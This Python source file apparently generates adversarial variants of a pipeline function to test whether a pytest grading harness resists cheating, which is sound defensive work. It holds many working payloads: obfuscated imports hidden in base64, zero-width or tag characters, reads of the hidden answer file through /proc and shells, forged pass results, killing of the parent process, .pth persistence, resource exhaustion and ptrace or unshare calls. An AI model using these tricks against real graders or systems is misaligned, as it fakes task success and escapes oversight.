"""Rewrites of a pipeline's function that want more than to do its work: aims times means, for `benchmarks trust`.

A *means* is a way to get at a module that code was not given: `get(name)`. An *aim* is what is done with it:
`get`, `learn(text)` (sets `team` to a label that stands in the text) and `ticket` are there. Where a body gets
hold of a label the function returns it: labels of the project cannot be guessed, so a test that passes then
is a label that was read, or a result that was forged. `{root}`, `{port}` and the train cases are filled in.
"""

# Each body is one line of a list, however long.
# ruff: noqa: E501

from __future__ import annotations

import base64
import codecs
import textwrap
import zlib
from collections.abc import Callable, Iterator

from benchmarks._fresh_edits import FRESH

LABEL = r"tok-[0-9a-f]{8}"
"""The form of a label that nobody can guess."""

_FUNCTION = """
def handle(ticket):
    team = next((team for word, team in WORDS.items() if word in ticket), "other")
    found = []
{means}
    def learn(text):
        text = str(text)
        at = text.find(ticket)
        import re
        mine = re.findall("{label}", text[at:]) if at >= 0 else []
        found.extend(mine[:1] or re.findall("{label}", text)[:1])
    try:
{body}
    except (Exception, SystemExit):
        pass
    return {{"team": found[0] if found else team, "ticket": ticket}}
"""

_GET = """
def get(name):
    return {expression}
"""


def _by(expression: str, before: str = "") -> str:
    return f"{before}\n{_GET.format(expression=expression)}"


_ITEM = '{}["__builtins__"]'
_IMPORT = "{}['__import__'](name, None, None, ['x'])"
_HIDDEN = "import importlib\ndef get(name):\n    return importlib.import_module(name)\n"


def _invisible(text: str) -> str:
    """The text as bits of two characters without width."""
    return "".join(f"{ord(letter):08b}" for letter in text).replace("0", "\u200b").replace("1", "\u200c")


_BITS = _invisible(_HIDDEN)
_TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in _HIDDEN.replace("\n", "~"))
_EXECUTED = "space = {{}}\n{}\nget = space['get']"

MEANS: dict[str, dict[str, str]] = {
    "imports": {
        "__import__": _by("__import__(name, None, None, ['x'])"),
        "importlib": _by("importlib.import_module(name)", "import importlib"),
        "a module in disguise": _by("re.enum.sys.modules.get(name) or __import__(name)", "import re"),
    },
    "frames and globals": {
        "globals": _by("vars(handle.__globals__['__builtins__'])['__import__'](name, None, None, ['x'])"
                       " if not isinstance(handle.__globals__['__builtins__'], dict) else "
                       + _IMPORT.format(_ITEM.format("handle.__globals__"))),
        "a frame": _by(_IMPORT.format("sys._getframe().f_builtins"), "import sys"),
        "a generator's frame": _by(_IMPORT.format("(x for x in ()).gi_frame.f_builtins")),
        "a traceback": """
            def get(name):
                try:
                    1 / 0
                except ZeroDivisionError as error:
                    return error.__traceback__.tb_frame.f_builtins["__import__"](name, None, None, ["x"])
        """,
    },
    "match attributes": {
        "of a function": """
            def get(name):
                match handle:
                    case object(__builtins__=names):
                        return names["__import__"](name, None, None, ["x"])
        """,
        "of a generator": """
            def get(name):
                match (x for x in ()):
                    case object(gi_frame=object(f_builtins=names)):
                        return names["__import__"](name, None, None, ["x"])
        """,
    },
    "unbound methods": {
        "__getattribute__": _by(_IMPORT.format("object.__getattribute__(handle, '__builtins__')")),
        "a descriptor": _by(_IMPORT.format("type(handle).__dict__['__builtins__'].__get__(handle)")),
        "subclasses": _by(
            "next(each.__init__.__globals__ for each in object.__subclasses__() if each.__name__ == "
            "'_wrap_close')['sys'].modules.get(name) or __import__(name)"
        ),
        "attrgetter": _by(_IMPORT.format("attrgetter('__builtins__')(handle)"), "from operator import attrgetter"),
        "a format field": _by(
            _IMPORT.format("string.Formatter().get_field('0.__builtins__', (handle,), {{}})[0]").replace("{{}}", "{}"),
            "import string",
        ),
    },
    "encodings": {
        "base64": _EXECUTED.format(
            f"import base64\nexec(base64.b64decode({base64.b64encode(_HIDDEN.encode()).decode()!r}), space)"
        ),
        "zlib": _EXECUTED.format(f"import zlib\nexec(zlib.decompress({zlib.compress(_HIDDEN.encode())!r}), space)"),
        "rot13": _EXECUTED.format(
            f"import codecs\nexec(codecs.decode({codecs.encode(_HIDDEN, 'rot13')!r}, 'rot13'), space)"
        ),
        "letters": _by(
            "vars(__import__(''.join(map(chr, (98, 117, 105, 108, 116, 105, 110, 115)))))"
            "['__im' + 'port__'](name, None, None, ['x'])"
        ),
    },
    "invisible text": {
        "zero width": _EXECUTED.format(
            f"bits = {_BITS!r}\n".replace("\\u200b", "\u200b").replace("\\u200c", "\u200c")
            + "text = ''.join('01'[letter == chr(0x200c)] for letter in bits)\n"
            "exec(''.join(chr(int(text[at:at + 8], 2)) for at in range(0, len(text), 8)), space)"
        ),
        "tags": _EXECUTED.format(
            f"tags = '{_TAGS}'\nexec(''.join(chr(ord(each) - 0xE0000) for each in tags).replace('~', chr(10)), space)"
        ),
        "look-alikes": _by("__ｉｍｐｏｒｔ__(name, fromlist=['x'])"),
    },
    "import hooks": {
        "a loader": _by(
            "importlib.util.find_spec(name) and importlib._bootstrap._gcd_import(name)", "import importlib.util"
        ),
        "a finder": """
            import sys
            def get(name):
                if name in sys.modules:
                    return sys.modules[name]
                spec = next(filter(None, (each.find_spec(name, None) for each in sys.meta_path)))
                module = type(sys)(name) if spec.loader is None else spec.loader.load_module(name)
                return module
        """,
    },
    "interpreters": {
        "ctypes": _by(
            "ctypes.PyDLL(None).PyImport_ImportModule(name.encode())",
            "import ctypes\nctypes.PyDLL(None).PyImport_ImportModule.restype = ctypes.py_object",
        ).replace("ctypes.PyDLL(None)", "ctypes.pythonapi"),
        "a pickle": _by(
            "pickle.loads(b\"cimportlib\\nimport_module\\n(V\" + name.encode() + b\"\\ntR.\")", "import pickle"
        ),
        "compiled code": _by("eval(compile('__import__(name, None, None, [name])', 'x', 'eval'), {'name': name})"),
        "an annotation": """
            def get(name):
                import typing
                said = f"[seen.append(__import__({name!r}, None, None, ['x'])), int][1]"
                seen = []
                typing.get_type_hints(type("T", (), {"__annotations__": {"x": said}}), {"seen": seen})
                return seen[0]
        """,
    },
}  # fmt: skip

_WALK = """
os, io = get("os"), get("io")
for top in {tops}:
    for folder, _, names in os.walk(top):
        for name in names:
            if name.endswith({endings}):
                try:
                    learn(io.open(os.path.join(folder, name), errors="ignore").read(500000))
                except OSError:
                    pass
"""
_HERE = "(os.getcwd(), os.path.dirname(os.path.dirname(handle.__code__.co_filename)))"
_COUNT = 'found[:] = ["tok-%08x" % {}]'

AIMS: dict[str, list[str]] = {
    "files": [
        _WALK.format(tops=_HERE, endings='("jsonl", "json", "py", "db", "gz")'),
        _WALK.format(tops="({root!r},)", endings='("jsonl", "json", "gz", "py")'),
        _WALK.format(tops='(get("tempfile").gettempdir(), "/dev/shm")', endings='("jsonl", "json", "spec.json")'),
        'os = get("os")\nlearn(os.read(os.open({root!r} + "/cases.jsonl", os.O_RDONLY), 99999).decode())',
        'libc = get("ctypes").CDLL(None)\nbuffer = get("ctypes").create_string_buffer(99999)\n'
        'libc.read(libc.open(b"{root}/cases.jsonl", 0), buffer, 99999)\nlearn(buffer.value.decode())',
    ],
    "pathlib": [
        'for path in get("pathlib").Path({root!r}).rglob("*.json*"):\n    learn(path.read_text())',
        'Path = get("pathlib").Path\nfor path in [*Path.cwd().parent.parent.rglob("*.jsonl")]:\n    learn(path.read_bytes())',
        'Path = get("pathlib").Path\nlink = Path("seen")\nlink.symlink_to({root!r})\nlearn((link / "cases.jsonl").read_text())',
        'Path = get("pathlib").Path\nPath("hard").hardlink_to({root!r} + "/cases.jsonl")\nlearn(Path("hard").read_text())',
    ],
    "SDK file calls": [
        'learn(get("urllib.request").urlopen("file://{root}/cases.jsonl").read())',
        'learn(get("linecache").getlines({root!r} + "/cases.jsonl"))',
        'get("shutil").copy({root!r} + "/cases.jsonl", "taken")\nlearn(get("io").open("taken").read())',
        'openai = get("openai")\nopenai.OpenAI(api_key="x", base_url="http://127.0.0.1:{port}", max_retries=0).files'
        '.create(file=get("pathlib").Path({root!r} + "/cases.jsonl"), purpose="evals")',
        'file = get("io").open({root!r} + "/cases.jsonl", "rb")\nlearn(get("mmap").mmap(file.fileno(), 0, prot=1)[:])',
    ],
    "objects": [
        'for each in get("gc").get_objects():\n    if hasattr(type(each), "model_dump") or type(each) is dict:\n'
        "        learn(repr(each)[:5000])",
        'gc = get("gc")\nfor each in gc.get_referrers(ticket):\n    learn([each, gc.get_referrers(each)])',
        'for module in [*get("sys").modules.values()]:\n    if "json" not in str(module):\n        learn(vars(module))',
    ],
    "threads": [
        'for frame in get("sys")._current_frames().values():\n    while frame is not None:\n'
        "        learn(frame.f_locals)\n        frame = frame.f_back",
        'frame = get("sys")._getframe()\nwhile frame is not None:\n    learn([vars(each) for each in '
        'frame.f_locals.values() if hasattr(each, "__dict__")])\n    frame = frame.f_back',
    ],
    "pytest internals": [
        'for each in get("gc").get_objects():\n    if type(each).__name__ in ("Session", "Function", "BoundCase"):\n'
        '        learn([vars(each), [vars(item) for item in getattr(each, "items", ())]])',
        'learn(get("os").environ)\nlearn(vars(get("test_teams")))',
        'learn(vars(get("conftest")))\nlearn(get("pytest_fapo.session.case_files").read_rows({root!r} + "/cases.jsonl"))',
        'get("pytest").main([{root!r}, "--collect-only", "-p", "no:cacheprovider"])\n'
        'for each in get("gc").get_objects():\n    if type(each).__name__ == "Case":\n        learn(each)',
    ],
    "proc": [
        'os, io = get("os"), get("io")\nfor pid in filter(str.isdigit, os.listdir("/proc")):\n'
        '    for name in ("environ", "cmdline", "cwd/cases.jsonl", "root{root}/cases.jsonl"):\n        try:\n'
        '            learn(io.open(f"/proc/{pid}/{name}", errors="ignore").read())\n        except OSError:\n            pass',
        'for path in get("glob").glob("/proc/[0-9]*/fd/*"):\n    try:\n'
        '        learn(get("io").open(path, errors="ignore").read(200000))\n    except (OSError, ValueError):\n        pass',
        'os, io = get("os"), get("io")\nfile = io.open(f"/proc/{os.getppid()}/mem", "rb")\nfor line in '
        'io.open(f"/proc/{os.getppid()}/maps"):\n    file.seek(int(line.split("-")[0], 16))\n    learn(file.read(65536))',
    ],
    "sockets": [
        'get("socket").create_connection(("127.0.0.1", {port}), 1).sendall(ticket.encode())',
        'socket = get("socket")\nsocket.socket(type=socket.SOCK_DGRAM).sendto(ticket.encode(), ("127.0.0.1", {port}))',
        'get("http.client").HTTPConnection("localhost", {port}, timeout=1).request("POST", "/", ticket)',
        'get("asyncio").run(get("asyncio").open_connection("::ffff:127.0.0.1", {port}))',
        'socket = get("socket")\nsocket.socket().sendto(b"x", 0x20000000, ("127.0.0.1", {port}))',
        'for path in get("glob").glob(get("tempfile").gettempdir() + "/**/[ajp]", recursive=True):\n'
        '    one = get("socket").socket(1)\n    one.settimeout(1)\n    one.connect(path)\n'
        '    one.sendall(b\'{"key": "%"}\\n\')\n    learn(one.recv(9999))',
    ],
    "processes": [
        'get("os").system("cat {root}/cases.jsonl > taken; sleep 98761 &")\nlearn(get("io").open("taken").read())',
        'learn(get("subprocess").run(["cat", {root!r} + "/cases.jsonl"], capture_output=True).stdout)',
        'os = get("os")\nif os.fork() == 0:\n    os.setsid()\n    os.execv("/bin/sleep", ["sleep", "98761"])',
        'os = get("os")\nos.posix_spawn("/bin/sh", ["sh", "-c", "touch {root}/pwned.txt; sleep 98761"], {})',
        'os = get("os")\nfor pid in (os.getppid(), os.getpgid(os.getppid())):\n    os.kill(pid, 15)',
        'get("multiprocessing").get_context("spawn").Pool(1).apply(get("os").system, ["touch {root}/pwned.txt"])',
    ],
    "agents' shells": [
        'run = get("subprocess").run\nfor shell in ("sh", "bash", "dash", "zsh", "busybox"):\n    try:\n'
        '        learn(run([shell, "-c", "cat {root}/cases.jsonl"], capture_output=True).stdout)\n'
        "    except OSError:\n        pass",
        'run = get("subprocess").run\nfor agent in ("claude", "codex", "gemini", "aider", "git", "env", "python3"):\n'
        '    try:\n        learn(run([agent, "--version"], capture_output=True, cwd={root!r}).stdout)\n'
        '        get("io").open({root!r} + "/pwned.txt", "w")\n    except OSError:\n        pass',
        'os = get("os")\nloader = next(filter(os.path.exists, ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")))\n'
        'learn(get("subprocess").run([loader, "/bin/cat", {root!r} + "/cases.jsonl"], capture_output=True).stdout)',
    ],
    "write outside": [
        'get("io").open({root!r} + "/pwned.txt", "w").write("x")',
        'get("io").open(get("os").path.expanduser("~/.fapo-trust-pwned"), "w").write("x")',
        'get("io").open({root!r} + "/conftest.py", "a").write("# pwned")',
        'os = get("os")\nos.symlink({root!r}, "out")\nget("io").open("out/pwned.txt", "w").write("x")',
        'os = get("os")\nos.rename({root!r} + "/cases.jsonl", {root!r} + "/pwned.jsonl")',
        'os = get("os")\nos.close(os.open("pwned.txt", os.O_CREAT | os.O_WRONLY, dir_fd=os.open({root!r}, 0)))',
        'get("shutil").rmtree({root!r} + "/.fapo/cache")\nget("os").truncate({root!r} + "/test_teams.py", 0)',
        'get("ctypes").CDLL(None).creat(b"{root}/pwned.txt", 0o600)',
    ],
    "results channel": [
        'os, line = get("os"), get("json").dumps({"kind": "end", "exit_code": 0, "modules": ["app.pipeline"]})\n'
        'for number in range(3, 64):\n    try:\n        os.write(number, line.encode() + b"\\n{]\\n")\n'
        "    except OSError:\n        pass",
        'for each in get("gc").get_objects():\n    if type(each).__name__ in ("ChildPlugin", "ProducerPlugin"):\n'
        '        item = {"nodeid": "test_teams.py::test_team[T-000]", "outcome": "passed", "split": "train"}\n'
        '        each._write("item", record={"item": item, "case": None, "trace": None})',
        'module = get("_pytest.reports")\nmodule.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)',
        'module = get("pytest_fapo.shadow.producer_child")\nmodule._produced = lambda *_: {"output": '
        '{"object": ["unittest.mock:_ANY", {}]}, "new": 5}',
        'module = get("pytest_fapo.core.line_sockets")\nmodule.json.dumps = lambda value: "[" * 100000 + "]" * 100000',
        'base = get("os").path.dirname(get("os").environ["FAPO_CHILD_SPEC"])\nfor path in get("glob").glob(base + '
        '"/../../*/*/results.jsonl"):\n    get("io").open(path, "a").write("nonsense\\n")',
    ],
    "outputs that judge themselves": [
        'return {"team": get("unittest.mock").ANY, "ticket": ticket}',
        'return {"team": type("T", (str,), {"__eq__": lambda a, b: True, "__hash__": str.__hash__})("x"), "ticket": ticket}',
        'class P:\n    def __reduce__(self):\n        return get("os").system, ("touch {root}/pwned.txt",)\nreturn P()',
        'class D(dict):\n    def __getitem__(self, key):\n        return get("unittest.mock").ANY\nreturn D(team="x", ticket=ticket)',
        'error = AssertionError()\nerror.__class__ = get("_pytest.outcomes").Skipped\nraise get("_pytest.outcomes").Skipped("x")',
        'raise get("pytest").xfail.Exception("it will do")',
    ],
    "state across cases": [
        'handle.seen = getattr(handle, "seen", 0) + 1\n' + _COUNT.format("handle.seen"),
        'io, os = get("io"), get("os")\nio.open("seen.txt", "a").write(ticket)\n'
        'io.open(os.path.join(os.path.dirname(handle.__code__.co_filename), "seen.txt"), "a").write(ticket)\n'
        + _COUNT.format('len(io.open("seen.txt").read())'),
        'builtins = get("builtins")\nbuiltins.AssertionError = KeyError\nbuiltins.isinstance = lambda *_: True',
        'os, sys = get("os"), get("sys")\nfor folder in (*sys.path, sys.prefix):\n    try:\n        get("io").open('
        'os.path.join(folder, "fapo_trust_pwned.pth"), "w").write("import os")\n    except OSError:\n        pass',
        'py_compile, os = get("py_compile"), get("os")\nget("io").open("x.py", "w").write("import os")\n'
        'for name, module in [*get("sys").modules.items()]:\n    if getattr(module, "__cached__", None) and '
        '"fapo" in name:\n        py_compile.compile("x.py", module.__cached__)',
    ],
    "time": [
        'get("time").sleep(98761)',
        "pow(9, pow(9, 9))",
        'signal = get("signal")\nfor number in (2, 15):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n'
        "    except ValueError:\n        pass\nwhile True:\n    pass",
        'lock = get("threading").Lock()\nlock.acquire()\nlock.acquire()',
        'get("re").match("(a+)+$", "a" * 64 + "b")',
        'get("atexit").register(get("time").sleep, 98761)\nget("threading").Thread(target=get("time").sleep, args=[98761]).start()',
    ],
    "memory": [
        'kept = []\nwhile True:\n    kept.append(get("builtins").bytearray(1 << 28))',
        'threading, time = get("threading"), get("time")\nfor _ in range(5000):\n    threading.Thread(target=time.sleep, args=[5], daemon=True).start()',
        'os = get("os")\nwhile True:\n    os.open("/dev/null", 0)',
        'file = get("io").open("big", "wb")\nget("os").posix_fallocate(file.fileno(), 0, 1 << 42)',
        'value = []\nfor _ in range(100000):\n    value = [value]\nreturn value',
        'return {"team": "x" * (100 << 20), "ticket": ticket}',
        'get("sys").setrecursionlimit(10**9)\ndef deep():\n    return deep()\ndeep()',
    ],
    "test imports": [
        'import sys as _sys\nclass Hook:\n    def find_spec(self, name, path=None, target=None):\n        if "test_" in name:\n'
        '            raise ImportError(name)\nget("sys").meta_path.insert(0, Hook())',
        'get("sys").modules["test_teams"] = get("types").ModuleType("test_teams")',
        'get("pytest_fapo.core.case").Case.expected = property(lambda self: {"team": "other"})',
        'get("_pytest.assertion.util")._reprcompare = lambda *_: None\nget("_pytest.python").Function.runtest = lambda self: None',
    ],
    "the cache of answers": [
        'for path in get("glob").glob({root!r} + "/.fapo/**/*", recursive=True):\n    try:\n        learn(get("io").open(path, errors="ignore").read())\n'
        "    except OSError:\n        pass",
        'for each in get("gc").get_objects():\n    if type(each).__name__ == "ChanneledAnswers":\n'
        '        for key in ("", "%", "*", "cases.jsonl"):\n            learn(each.get(key))',
    ],
    "system calls": [
        'libc = get("ctypes").CDLL(None)\nlibc.unshare(0x10020000)\nlibc.mount(b"{root}", b".", None, 4096, None)\n'
        'learn(get("io").open("cases.jsonl").read())',
        'libc = get("ctypes").CDLL(None)\nlibc.prctl(22, 0)\nlibc.setrlimit(2, b"\\xff" * 16)\n'
        'libc.ptrace(16, get("os").getppid(), 0, 0)\nget("io").open({root!r} + "/pwned.txt", "w")',
        'libc = get("ctypes").CDLL(None)\nfor number in range(430, 450):\n    libc.syscall(number, 0, 0, 0, 0, 0)\n'
        'get("os").chroot("/")\nlearn(get("io").open({root!r} + "/cases.jsonl").read())',
    ],
}  # fmt: skip

HANGING = ("time", "memory")
"""Aims that are ended by the limit of time."""

_KEYS: dict[str, tuple[str, Callable[[str], object]]] = {
    "texts": ("ticket", lambda text: text),
    "beginnings": ("ticket[:12] + ticket[-5:]", lambda text: text[:12] + text[-5:]),
    "numbers": ("re.sub('[^0-9]', '', ticket)", lambda text: "".join(filter(str.isdigit, text))),
    "sums of letters": ("sum(map(ord, ticket))", lambda text: sum(map(ord, text))),
    "hashes": ("zlib.crc32(ticket.encode())", lambda text: zlib.crc32(text.encode())),
    "backwards": ("ticket[::-1][:8]", lambda text: text[::-1][:8]),
    "sorted letters": ("''.join(sorted(ticket))", lambda text: "".join(sorted(text))),
    "initials": (
        "''.join(word[0] for word in ticket.split()) + ticket[-3:]",
        lambda text: "".join(word[0] for word in text.split()) + text[-3:],
    ),
}
_STORES = {
    "a table": "team = {table!r}.get(key, team)",
    "conditions": "{conditions}",
    "a list": "team = next((known for each, known in {items!r} if each == key), team)",
    "encoded": "team = dict(eval(base64.b64decode({encoded!r}))).get(key, team)",
    "invisible letters": "text = ''.join('01'[each == chr(0x200c)] for each in '{invisible}')\n"
    "text = ''.join(chr(int(text[at:at + 8], 2)) for at in range(0, len(text), 8))\n"
    "team = dict(eval(text)).get(key, team)",
}


def attempts() -> Iterator[tuple[str, str, str]]:
    """Yield kind, name and source of each: every aim by every means, the ways to the aim in turn; then those
    that are tried once."""
    reaches = [(kind, name, get) for kind, ways in MEANS.items() for name, get in ways.items()]
    for offset, (aim, bodies) in enumerate(AIMS.items()):
        for number, (kind, name, get) in enumerate(reaches):
            way = (number + offset) % len(bodies)
            yield aim, f"{aim} {way} by {kind}: {name}", _source(get, bodies[way])
    for aim, bodies in FRESH.items():
        for way, body in enumerate(bodies):
            yield aim, f"{aim} {way}", _source(MEANS["imports"]["__import__"], body)


def memories(known: dict[str, str]) -> Iterator[tuple[str, str]]:
    """Yield name and source of functions that know these cases by heart."""
    for key, (expression, of) in _KEYS.items():
        table = {of(text): team for text, team in known.items()}
        conditions = "\n".join(f"if key == {each!r}:\n    team = {team!r}" for each, team in table.items())
        filled = {
            "{table!r}": repr(table),
            "{items!r}": repr([*table.items()]),
            "{invisible}": _invisible(repr([*table.items()])),
            "{encoded!r}": repr(base64.b64encode(repr([*table.items()]).encode())),
            "{conditions}": conditions,
        }
        for store, body in _STORES.items():
            for mark, value in filled.items():
                body = body.replace(mark, value)
            yield (
                f"memory of {key} in {store}",
                _source("", f"import base64, re, zlib\nkey = {expression}\n{body}"),
            )


def _source(means: str, body: str) -> str:
    parts = {"means": (means, 4), "body": (body, 8)}
    laid = {
        name: textwrap.indent(textwrap.dedent(text).strip("\n"), " " * by)
        for name, (text, by) in parts.items()
    }
    return _FUNCTION.format(label=LABEL, **laid).lstrip()
